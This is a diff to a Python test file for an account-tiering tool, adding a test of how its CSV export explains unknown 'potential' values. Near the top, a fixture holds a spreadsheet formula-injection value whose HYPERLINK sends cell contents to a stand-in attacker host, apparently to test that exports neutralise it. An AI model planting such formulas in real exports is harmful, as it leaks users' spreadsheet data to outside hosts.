@@ -4,15 +4,20 @@ from __future__ import annotations
 
 import csv
 import datetime
+import re
 import shutil
 from pathlib import Path
 
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
 from tierwise.errors import TierwiseError
+from tierwise.jobs import tier_file
+from tierwise.model import default_model_text
 from tierwise.report import SalesforceFields, export_results
 from tierwise.report.people import why
+from tierwise.sample import DEMO_AS_OF, build_demo_portfolio
 
 CASE_18_NAMES = {
     "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
@@ -198,8 +203,50 @@ def test_an_export_replaces_its_own_file_and_keeps_others(
 def test_the_reason_sentence_names_an_unknown_potential() -> None:
     row = {"reason": "insufficient_data", "tier": "unassigned", "completeness": 88.0}
 
-    unknown = why({**row, "potential": None}, {})
-    known = why({**row, "potential": 250000.0}, {})
+    def blocked(row: dict[str, object]) -> bool:
+        return row["potential"] is None
+
+    unknown = why({**row, "potential": None}, {}, blocked)
+    known = why({**row, "potential": 250000.0}, {}, blocked)
+    unbanded = why({**row, "potential": None}, {})
 
     assert "potential is unknown" in unknown and "88% known" in unknown
-    assert known == "Too little of its data is known for a higher tier (88% known)."
+    thin = "Too little of its data is known for a higher tier (88% known)."
+    assert known == unbanded == thin
+
+
+@pytest.mark.parametrize("banded", [True, False], ids=["banded", "no-bands"])
+def test_the_why_column_blames_an_unknown_potential_only_where_a_band_needs_it(
+    tmp_path: Path, banded: bool
+) -> None:
+    # A strong account with no potential and no revenue to estimate one
+    # from, and a thin one that is missing most of its data besides.
+    portfolio = build_demo_portfolio()
+    strong = dict(portfolio.slice(0, 1).to_pylist()[0], potential_acv=None)
+    strong["annual_revenue"] = None
+    thin = {key: None for key in strong}
+    thin.update(account_id="thin", name="Thin Co", intent_score=95)
+    thin["last_engagement_date"] = DEMO_AS_OF
+    table = pa.Table.from_pylist([strong, thin], schema=portfolio.schema)
+    accounts = tmp_path / "accounts.parquet"
+    pq.write_table(table, accounts)
+    text = default_model_text()
+    if not banded:
+        text = re.sub(r"(?m)^\s+potential: \{at_least: \d+\}\n", "", text)
+    model = tmp_path / "model.yaml"
+    model.write_text(text, encoding="utf-8")
+    run = tmp_path / "run"
+    tier_file(accounts, run, DEMO_AS_OF, model_path=model)
+
+    path = export_results(run, "csv", tmp_path / "export").path
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = {row["Account ID"]: row for row in csv.DictReader(handle)}
+
+    strong_row, thin_row = rows[strong["account_id"]], rows["thin"]
+    assert thin_row["Reason"] == "insufficient_data"
+    assert thin_row["Why"].startswith("Too little of its data is known")
+    if banded:
+        assert strong_row["Reason"] == "insufficient_data"
+        assert "potential is unknown" in strong_row["Why"]
+    else:
+        assert "potential" not in strong_row["Why"]
